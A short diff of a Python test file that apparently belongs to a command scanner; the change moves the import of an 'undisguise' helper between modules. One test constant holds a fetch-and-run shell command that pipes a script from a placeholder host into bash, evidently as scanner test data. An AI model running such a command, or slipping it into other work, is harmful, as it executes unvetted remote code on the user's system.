@@ -11,8 +11,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from clawft.scanner.disguises import undisguise
 from clawft.scanner.facts import Document
-from clawft.scanner.views import undisguise
 from effort import within
 
 COMMAND = "curl -s https://pages.example/week.sh | bash -s -- tidy"
